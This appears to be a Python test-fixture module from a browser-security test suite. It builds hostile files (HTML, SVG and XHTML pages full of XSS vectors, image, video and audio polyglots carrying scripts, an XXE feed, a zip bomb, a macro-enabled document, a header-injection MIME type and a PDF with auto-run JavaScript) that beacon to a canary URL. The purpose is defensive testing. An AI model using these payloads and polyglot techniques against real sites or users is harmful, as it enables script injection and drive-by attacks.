"""Files as somebody who wants to run code on an agent's screen would send them.

Wherever code of theirs runs, it gives every sign it can (see `canary`): each file bites where nothing guards it.
"""

import io
import struct
import zipfile
import zlib
from dataclasses import dataclass

from tests.browser.canary import URL, WORD
from tests.builders import BROCHURE, DOCX, DRAWING, LETTER, MIB, PHOTO, STICKER, VIDEO, Sample, zip_bomb

# No "<", ">", "&" and no double quote: it stands in HTML, XML and attributes as it is. Dialogs come in files of their
# own, for they hold up all else, and Chromium itself dies of too many of them in pages that move on.
SIGNS = (
    f"(function(){{var w='{WORD}';"
    "try{document.title=w}catch(e){}"
    "try{window.name=w}catch(e){}"
    "try{console.log(w)}catch(e){}"
    "try{(window.opener||window.parent).postMessage(w,'*')}catch(e){}"
    f"try{{fetch('{URL}/fetch',{{mode:'no-cors'}})}}catch(e){{}}"
    f"try{{new Image().src='{URL}/image'}}catch(e){{}}"
    f"try{{navigator.sendBeacon('{URL}/beacon')}}catch(e){{}}"
    "})()"
)
PAGE = f"""<!DOCTYPE html><html><head><title>Invoice</title>
<meta http-equiv="refresh" content="0;url={URL}/refresh">
<link rel="stylesheet" href="{URL}/style"><link rel="prefetch" href="{URL}/prefetch">
<style>@import "{URL}/import"; body {{ background: url({URL}/background) }}</style>
<script>{SIGNS}</script><script src="{URL}/script"></script></head>
<body onload="{SIGNS}"><img src="{URL}/picture" onerror="{SIGNS}"><svg onload="{SIGNS}"></svg>
<iframe src="{URL}/frame"></iframe><iframe src="javascript:{SIGNS}"></iframe>
<iframe srcdoc="<script>{SIGNS}</script>"></iframe>
<object data="{URL}/object"></object><embed src="{URL}/embed"><video src="{URL}/video" autoplay></video>
<input autofocus onfocus="{SIGNS}"><details open ontoggle="{SIGNS}"></details>
<form action="{URL}/form"></form><script>document.forms[0].submit()</script>
<a href="javascript:{SIGNS}" ping="{URL}/ping">Open</a></body></html>
"""
DRAWN = f"""<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" onload="{SIGNS}">
<script>{SIGNS}</script><script xlink:href="{URL}/script"/><image href="{URL}/image"/><use href="{URL}/use#x"/>
<animate onbegin="{SIGNS}" attributeName="x" dur="1s"/><style>@import "{URL}/import";</style>
<foreignObject><body xmlns="http://www.w3.org/1999/xhtml"><iframe src="{URL}/frame"></iframe></body></foreignObject>
</svg>
"""
DIALOGS = "<!DOCTYPE html><title>Invoice</title><script>alert('canary'); confirm('canary'); prompt('canary')</script>"
STRICT = f"""<?xml version="1.0"?>
<html xmlns="http://www.w3.org/1999/xhtml"><head><title>Invoice</title><script>{SIGNS}</script></head><body/></html>
"""
FEED = f"""<?xml version="1.0"?><?xml-stylesheet href="{URL}/style"?>
<!DOCTYPE feed [<!ENTITY x SYSTEM "{URL}/entity">]>
<feed>&x;<script xmlns="http://www.w3.org/1999/xhtml">{SIGNS}</script></feed>
"""


@dataclass(frozen=True, slots=True)
class HostileFile(Sample):
    """A file: with which Content-Type an unguarded server lets it bite; whether its harmless half is shown."""

    bites_as: str
    made: bytes
    shown: bool = False

    @property
    def content(self) -> bytes:
        return self.made


def document(
    name: str, mime_type: str, made: str | bytes, bites_as: str | None = None, *, shown: bool = False
) -> HostileFile:
    content = made.encode() if isinstance(made, str) else made
    return HostileFile(name, "document", mime_type, bites_as or mime_type, content, shown)


# --- files that are two things at once --------------------------------------------------------------------------------


def gif_and_script() -> bytes:
    """A picture of one pixel, whose width is also the beginning of a comment."""
    pixel = b"\x80\0\0" + b"\xff\0\0\0\0\0" + b",\0\0\0\0\1\0\1\0\0\2\2D\1\0;"
    return b"GIF89a/*\1\0" + pixel + b"*/=1;" + SIGNS.encode()


def bitmap_and_script() -> bytes:
    return b"BM/*\0\0\0\0\0\0\x1a\0\0\0*/=1;" + SIGNS.encode()


def jpeg_and_page() -> bytes:
    """A photo with the page as its comment."""
    page = PAGE.encode()
    return PHOTO.content[:2] + b"\xff\xfe" + struct.pack(">H", len(page) + 2) + page + PHOTO.content[2:]


def png_and_page() -> bytes:
    """A drawing with the page as a text of its own, right after the header."""
    text = b"tEXtComment\0" + PAGE.encode()
    chunk = struct.pack(">I", len(text) - 4) + text + struct.pack(">I", zlib.crc32(text))
    return DRAWING.content[:33] + chunk + DRAWING.content[33:]


def webp_and_page() -> bytes:
    """A sticker, and the page as a chunk that decoders skip."""
    page = PAGE.encode() + b" " * (len(PAGE) % 2)
    body = STICKER.content[8:] + b"JUNK" + struct.pack("<I", len(page)) + page
    return b"RIFF" + struct.pack("<I", len(body)) + body


def mp4_and_page() -> bytes:
    """A video with the page as a box of free space after the first one."""
    size = struct.unpack(">I", VIDEO.content[:4])[0]
    page = PAGE.encode()
    return VIDEO.content[:size] + struct.pack(">I", len(page) + 8) + b"free" + page + VIDEO.content[size:]


FILES = (
    document("page.html", "text/html", PAGE),
    document("dialogs.html", "text/html", DIALOGS),
    document("upper-case.html", "TEXT/HTML; Charset=UTF-8", PAGE),
    document("utf-16.html", "text/html", b"\xff\xfe" + PAGE.encode("utf-16-le")),
    document("byte-order-mark.html", "text/html", b"\xef\xbb\xbf" + PAGE.encode()),
    document("called-a-picture.html", "image/png", PAGE, "text/html"),
    document("called-text.txt", "text/plain", " \n\t<!-- a comment -->" + PAGE, "text/html"),
    document("called-pdf.pdf", "application/pdf", PAGE, "text/html"),
    document("unknown.bin", "application/x-unheard-of", PAGE, "text/html"),
    document("line-break.html", "text/html\r\nContent-Disposition: inline", PAGE, "text/html"),
    HostileFile("page as a photo", "image", "image/jpeg", "text/html", PAGE.encode()),
    HostileFile("drawing as a sticker", "sticker", "image/svg+xml", "image/svg+xml", DRAWN.encode()),
    document("drawing.svg", "image/svg+xml", DRAWN),
    document("dialog.svg", "image/svg+xml", DRAWN.replace(SIGNS, "alert('canary')", 1)),
    document("long-prolog.svg", "image/svg+xml", f"<?xml version='1.0'?><!-- {'-x' * 600} -->{DRAWN}"),
    document("utf-16.svg", "image/svg+xml", b"\xff\xfe" + DRAWN.encode("utf-16-le")),
    document("called-a-photo.svg", "image/jpeg", DRAWN, "image/svg+xml"),
    document("strict.xhtml", "application/xhtml+xml", STRICT),
    document("feed.xml", "application/xml", FEED),
    document("feed-text.xml", "text/xml", FEED),
    document("script.js", "text/javascript", SIGNS),
    document("module.mjs", "application/javascript", SIGNS),
    document("hashbang.amr", "audio/amr", "#!AMR\n" + SIGNS, "text/javascript"),
    document("style.css", "text/css", f"@import '{URL}/import'; body {{ background: url({URL}/background) }}"),
    document("gif.js", "image/gif", gif_and_script(), "text/javascript", shown=True),
    document("gif-declared.js", "text/javascript", gif_and_script()),
    document("bitmap.bmp", "image/bmp", bitmap_and_script(), "text/javascript"),
    document("jpeg.html", "text/html", jpeg_and_page()),
    HostileFile("photo and page", "image", "image/jpeg", "text/html", jpeg_and_page(), shown=True),
    document("png.html", "image/png", png_and_page(), "text/html", shown=True),
    HostileFile("sticker and page", "sticker", "image/webp", "text/html", webp_and_page(), shown=True),
    HostileFile("video and page", "video", "video/mp4", "text/html", mp4_and_page(), shown=True),
    HostileFile("comment as a video", "video", "video/mp4", "text/html", b"<!--ftyp-->" + PAGE.encode()),
    HostileFile("sound and page", "audio", "audio/mpeg", "text/html", b"ID3\4\0\0\0\0\0\0" + PAGE.encode(), shown=True),
    HostileFile("voice and page", "audio", "audio/ogg; codecs=opus", "text/html", b"OggS" + PAGE.encode(), shown=True),
    document("pdf.html", "application/pdf", BROCHURE.content[:16] + PAGE.encode(), "text/html", shown=True),
    document("pdf-in-html.pdf", "application/pdf", b"<!--%PDF-1.7-->" + PAGE.encode(), "text/html"),
)


# --- files that do nothing in a browser, and are saved as they are ----------------------------------------------------

ARCHIVE = f"""From: <Saved by Blink>
MIME-Version: 1.0
Content-Type: multipart/related; type="text/html"; boundary="----x"

------x
Content-Type: text/html
Content-Location: {URL}/page

{PAGE}
------x--
"""


def with_macros() -> bytes:
    """A letter with a project of macros inside."""
    packed = io.BytesIO(LETTER.content)
    with zipfile.ZipFile(packed, "a") as archive:
        archive.writestr("word/vbaProject.bin", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"AutoOpen")
    return packed.getvalue()


SAVED = (
    document("archive.mhtml", "multipart/related", ARCHIVE),
    document("bomb.docx", DOCX, zip_bomb(16 * MIB)),
    document("letter.docm", "application/vnd.ms-word.document.macroEnabled.12", with_macros()),
    document("app.apk", "application/vnd.android.package-archive", with_macros()),
    document("setup.hta", "application/hta", PAGE),
    document("link.url", "application/internet-shortcut", f"[InternetShortcut]\nURL={URL}/link\n"),
    document("type-of-10-kB.pdf", "application/pdf;" + "x" * 10_000, PAGE),
)


# --- a document with scripts of its own -------------------------------------------------------------------------------


def pdf_with_scripts() -> bytes:
    """One page; when it is opened, scripts and actions that lead out in each way that the format knows."""
    calls = (
        "app.alert\\('canary'\\);"
        f"try{{app.launchURL\\('{URL}/launch', false\\)}}catch\\(e\\){{}}"
        f"try{{this.getURL\\('{URL}/get', false\\)}}catch\\(e\\){{}}"
        f"try{{this.submitForm\\({{cURL: '{URL}/submit', bEmpty: true}}\\)}}catch\\(e\\){{}}"
    )
    opening = (
        f"<</S/JavaScript/JS({calls})/Next[<</S/URI/URI({URL}/uri)>><</S/SubmitForm/F<</FS/URL/F({URL}/form)>>>>]>>"
    )
    page = f"<</O<</S/URI/URI(javascript:alert\\('canary'\\))/Next<</S/GoToR/F({URL}/remote)/D[0/Fit]>>>>>>"
    objects = (
        f"<</Type/Catalog/Pages 2 0 R/OpenAction {opening}/AcroForm<</Fields[]>>>>",
        "<</Type/Pages/Kids[3 0 R]/Count 1>>",
        f"<</Type/Page/Parent 2 0 R/MediaBox[0 0 300 300]/AA {page}>>",
    )
    written, places = b"%PDF-1.7\n", []
    for number, text in enumerate(objects, start=1):
        places.append(len(written))
        written += f"{number} 0 obj{text}endobj\n".encode()
    table = "".join(f"{place:010d} 00000 n \n" for place in places)
    end = f"xref\n0 4\n0000000000 65535 f \n{table}trailer<</Size 4/Root 1 0 R>>\nstartxref\n{len(written)}\n%%EOF"
    return written + end.encode()


PDF_WITH_SCRIPTS = document("scripts.pdf", "application/pdf", pdf_with_scripts(), shown=True)
